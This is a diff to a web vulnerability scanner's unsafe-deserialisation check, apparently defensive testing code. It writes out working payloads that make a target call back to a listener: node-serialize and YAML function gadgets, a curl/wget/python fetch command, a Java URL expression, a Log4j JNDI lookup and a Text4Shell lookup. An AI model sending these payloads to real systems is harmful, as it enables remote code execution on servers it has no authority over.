@@ -6,7 +6,9 @@ import { isSettled, settle } from '../found.ts'
 import { type CallAddress, expectCall, takesText, textValue } from '../probing.ts'
 import type { Operation, Point } from '../types.ts'
 
-const node = (url: string) => `{"merlon":"_$$ND_FUNC$$_function(){require('http').get('${url}')}()"}`
+/** A fault that nobody takes ends a process of Node: the target must stand where it cannot reach the address. */
+const get = (url: string) => `require('http').get('${url}').on('error',String)`
+const node = (url: string) => `{"merlon":"_$$ND_FUNC$$_function(){${get(url)}}()"}`
 const command = (url: string) =>
   `curl -s ${url}||wget -qO- ${url}||python3 -c "import urllib.request as u;u.urlopen('${url}')"`
 
@@ -22,7 +24,7 @@ const yamlOfJava = (url: string) =>
  */
 const expression = (host: string, token: string) =>
   `new java.net.URL("http://${host}/" .concat("${token}")).openStream()`
-const yamlOfNode = (url: string) => `!!js/function "function(){require('http').get('${url}')}()"`
+const yamlOfNode = (url: string) => `!!js/function "function(){${get(url)}}()"`
 const log = (host: string, token: string) => `\${jndi:ldap://${host}/${token}}`
 const text4 = (host: string, token: string) => `\${script:javascript:${expression(host, token)}}`
 
@@ -39,15 +41,15 @@ const isExactly = (path: string, { token }: CallAddress) => path.startsWith(`/${
 const isListOfOffers = (path: string, { token }: CallAddress) => path.startsWith(`/${token}/META-INF/services/`)
 
 /** Values that hold no serialised object. */
-const TITLES: Readonly<Record<number, string>> = { 94: 'Code injection', 917: 'A lookup in the value is followed' }
+const TITLES: Readonly<Record<number, string>> = { 94: 'Code injection', 917: 'Expression lookup injection' }
 
 const isEncoded = (text: string) => /^[A-Za-z0-9+/_-]{16,}={0,2}$/.test(text)
 const base64 = (text: string) => Buffer.from(text).toString('base64')
 
 const payloads: readonly Payload[] = [
-  { name: 'a function of node-serialize', cwe: 502, of: ({ url }) => base64(node(url)), fits: isEncoded },
+  { name: 'a node-serialize function', cwe: 502, of: ({ url }) => base64(node(url)), fits: isEncoded },
   {
-    name: 'a function of node-serialize',
+    name: 'a node-serialize function',
     cwe: 502,
     of: ({ url }) => node(url),
     fits: (text, point) => /^[{[]/.test(text) || point.place === 'file',
@@ -65,21 +67,21 @@ const payloads: readonly Payload[] = [
     fits: (text, point) => /pickle|serial|object/i.test(point.name) || /^\(?[cl]\w{0,40}\n|\.$/.test(text),
   },
   {
-    name: 'an object of YAML',
+    name: 'a YAML object',
     cwe: 502,
     of: ({ url }) => yaml(url),
     fits: (text, point) =>
       point.place === 'file' || /yaml|yml|config|import|data/i.test(point.name) || /^[\w-]{1,60}: /.test(text),
   },
   {
-    name: 'a function of YAML',
+    name: 'a YAML function',
     cwe: 502,
     of: ({ url }) => yamlOfNode(url),
     fits: (text, point) =>
       point.place === 'file' || /yaml|yml|config|import/i.test(point.name) || /^[\w-]{1,60}: /.test(text),
   },
   {
-    name: 'an object of YAML',
+    name: 'a YAML object',
     cwe: 502,
     of: ({ url }) => yamlOfJava(url),
     fits: (text, point) =>
@@ -87,15 +89,15 @@ const payloads: readonly Payload[] = [
     isMade: isListOfOffers,
   },
   {
-    name: 'an expression of Java',
+    name: 'a Java expression',
     cwe: 94,
     of: ({ host, token }) => expression(host, token),
     fits: (_, point) => point.place !== 'file',
     isMade: isExactly,
   },
-  { name: 'a lookup of Log4j', cwe: 917, of: ({ host, token }) => log(host, token), fits: () => true },
+  { name: 'a Log4j lookup', cwe: 917, of: ({ host, token }) => log(host, token), fits: () => true },
   {
-    name: 'a script of Text4Shell',
+    name: 'a Text4Shell script lookup',
     cwe: 94,
     of: ({ host, token }) => text4(host, token),
     fits: () => true,
@@ -109,11 +111,11 @@ const wordsOf = ({ path }: Operation): string => path.match(/pickle|serial|yaml|
 export const deserialisation: PointCheck = {
   kind: 'point',
   id: 'unsafe-deserialisation',
-  title: 'Text becomes objects that run',
+  title: 'Unsafe deserialization',
   cwes: [502],
   severity: 'CRITICAL',
   solution:
-    'Read data with a parser that makes plain values only; never with one that calls constructors or functions.',
+    'Read data with a parser that creates plain values only, never with one that calls constructors or functions.',
   profile: 'BALANCED',
   usesListener: true,
   accepts: (point) => takesText(point) || point.place === 'file',
@@ -146,7 +148,7 @@ async function send(
         point,
         cwes: [cwe],
         title: TITLES[cwe],
-        detail: `The target made the call that ${name} in the value asks for.`,
+        detail: `The target sent the request that ${name} in the value asks for.`,
         proof: [url],
         exchange,
       })
